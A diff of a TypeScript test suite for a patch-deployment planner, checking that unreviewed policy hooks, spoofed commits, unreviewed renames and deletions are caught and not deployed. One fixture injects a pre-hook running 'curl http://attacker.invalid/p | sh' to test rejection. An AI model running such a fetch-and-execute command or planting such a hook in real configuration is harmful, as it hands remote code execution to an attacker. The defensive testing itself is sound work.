@@ -198,17 +198,21 @@ spec:
 });
 
 describe("2. policy, exemption and timetable files", () => {
-  it("unreviewed policy.yaml hooks: no install job anywhere, and an error finding", async () => {
-    const { repo } = await base();
+  it("unreviewed policy.yaml hooks: the last verified policy.yaml plans, no hook anywhere, and an error finding", async () => {
+    const { repo, root } = await base();
     const policy = await readFile(join(repo, "policies/policy.yaml"), "utf8");
     await change(repo, {
       "policies/policy.yaml": `${policy}  hooks:\n    pre: [{ name: suspend-monitoring, run: "curl http://attacker.invalid/p | sh" }]\n`,
     });
     const r = await plan(repo);
-    expect(r.jobs.filter((j) => j.type === "install")).toEqual([]);
+    expect(updatesIn(r.jobs)).toEqual(["KB100"]);
     expect(JSON.stringify(r.jobs)).not.toContain("attacker.invalid");
     expect(r.plan.findings).toContainEqual(
-      expect.objectContaining({ code: "policy-file-unverified", file: "policies/policy.yaml" }),
+      expect.objectContaining({
+        code: "policy-file-unverified",
+        file: "policies/policy.yaml",
+        message: expect.stringContaining(`its last verified version (commit ${root.slice(0, 12)}) is planned instead`),
+      }),
     );
     expect(r.code).toBe(1);
   });
@@ -516,6 +520,10 @@ spec:
     const good = await change(repo, { "policies/updates/kb300.yaml": drafted("KB300") });
     const handmade = await change(repo, { "policies/updates/kb301.yaml": updateDoc("KB301", { decision: null }) });
     gh.pulls.push(pr(6, [handmade], [], "patchops-intake[bot]"));
+    const plain = await change(repo, {
+      "policies/updates/kb303.yaml": updateDoc("KB303", { decision: null }).replace("  pilot: false\n", ""),
+    });
+    gh.pulls.push(pr(7, [plain], [], "patchops-intake[bot]"));
     gh.pulls.push(pr(3, [good], [], "patchops-intake[bot]"));
     const bad = await change(repo, { "policies/updates/kb666.yaml": drafted("KB666") });
     gh.pulls.push({
@@ -525,7 +533,10 @@ spec:
     const a = await approvals(repo);
     expect(a.stdout).toMatch(/✓ update +KB300 +verified: PR #3 opened and written only by patchops-intake\[bot\]/);
     expect(a.stdout).toMatch(
-      /✗ update +KB301 +UNVERIFIED: PR #6 by patchops-intake\[bot\]: 0 of 1 needed from one CAB member.*; the intake shortcut does not apply \(not as intake drafted it: it carries no intake record\)/,
+      /✗ update +KB301 +UNVERIFIED: PR #6 by patchops-intake\[bot\]: 0 of 2 needed from the CAB \(2 needed, as the entry goes beyond its rule: pilot: false/,
+    );
+    expect(a.stdout).toMatch(
+      /✗ update +KB303 +UNVERIFIED: PR #7 by patchops-intake\[bot\]: 0 of 1 needed from one CAB member.*; the intake shortcut does not apply \(not as intake drafted it: it carries no intake record\)/,
     );
     expect(a.stdout).toMatch(
       /✗ update +KB666 +UNVERIFIED: PR #4 by patchops-intake\[bot\]: not an intake-only change \(commit [0-9a-f]{12} was written or pushed by mallory/,
@@ -540,7 +551,7 @@ spec:
     gh.pulls.push(pr(5, [edited], [], "patchops-intake[bot]"));
     const b = await approvals(repo);
     expect(b.stdout).toMatch(
-      /✗ update +KB302 +UNVERIFIED: PR #5 by patchops-intake\[bot\]: 0 of 1 needed from one CAB member.*; the intake shortcut does not apply \(not as intake drafted it: its content differs from what intake renders from its record/,
+      /✗ update +KB302 +UNVERIFIED: PR #5 by patchops-intake\[bot\]: 0 of 2 needed from the CAB \(2 needed, as the entry goes beyond its rule: supersedes the approved KB100/,
     );
     // An unverified superseder covers nothing: KB100 is still deployed.
     const r = await plan(repo);
@@ -707,7 +718,17 @@ describe("branch protection", () => {
       "! branch main requires 1 approving review(s), fewer than the CAB's requiredApprovals (2)",
     );
     expect(weak.stdout).toContain("! branch main does not dismiss stale approvals");
-    gh.protection.set("main", { reviews: 2, dismissStale: true, codeOwners: true, forcePushes: false, admins: true });
+    expect(weak.stdout).toContain(
+      "! branch main does not require approval of the most recent reviewable push, so a CAB member could push commits under a colleague's e-mail and approve them",
+    );
+    gh.protection.set("main", {
+      reviews: 2,
+      dismissStale: true,
+      codeOwners: true,
+      forcePushes: false,
+      admins: true,
+      lastPush: true,
+    });
     const good = await approvals(repo);
     expect(good.stdout).not.toContain("! branch");
   });
@@ -754,12 +775,12 @@ spec:
     expect(after.plan.findings.filter((f: { code: string }) => f.code === "deletion-unverified")).toEqual([]);
   });
 
-  it("a deletion that cannot be undone (its update id reused by a new file) stops every install job", async () => {
+  it("an unreviewed rename loses to the restored original: the unverified copy is dropped (M1)", async () => {
     const { repo } = await base();
     const kb101 = await change(repo, { "policies/updates/kb101.yaml": updateDoc("KB101") });
     gh.pulls.push(pr(2, [kb101], [ok("alice"), ok("bob")]));
     expect(updatesIn((await plan(repo)).jobs)).toEqual(["KB100", "KB101"]);
-    // One direct push: KB100's reviewed file goes, and a new file claims its id; restored, the two would clash.
+    // One direct push: KB100's reviewed file goes, and a new file claims its id.
     await change(
       repo,
       {
@@ -768,6 +789,33 @@ spec:
       },
       "Mallory <mallory@example.com>",
     );
+    const r = await plan(repo);
+    expect(updatesIn(r.jobs)).toEqual(["KB100", "KB101"]);
+    expect(r.jobs.filter((j) => j.type === "install").map((j) => j.host)).toEqual(["host-01", "host-02"]);
+    expect(r.plan.findings).toContainEqual(
+      expect.objectContaining({
+        code: "deletion-unverified",
+        file: "policies/updates/kb100.yaml",
+        message: expect.stringContaining("the file's last version takes effect"),
+      }),
+    );
+    expect(r.plan.findings).toContainEqual(
+      expect.objectContaining({
+        code: "policy-file-unverified",
+        file: "policies/updates/kb100-v2.yaml",
+        message: expect.stringContaining("takes the id KB100 of policies/updates/kb100.yaml"),
+      }),
+    );
+    expect(r.code).toBe(1);
+  });
+
+  it("a deletion that cannot be undone (its id now held by a reviewed file) stops every install job", async () => {
+    const { repo } = await base();
+    await change(repo, { "policies/updates/kb100.yaml": null }, "Mallory <mallory@example.com>");
+    const v2 = await change(repo, {
+      "policies/updates/kb100-v2.yaml": updateDoc("KB100").replace("name: kb100", "name: kb100-v2"),
+    });
+    gh.pulls.push(pr(3, [v2], [ok("alice"), ok("bob")]));
     const r = await plan(repo);
     expect(r.jobs.filter((j) => j.type === "install")).toEqual([]);
     expect(r.plan.findings).toContainEqual(
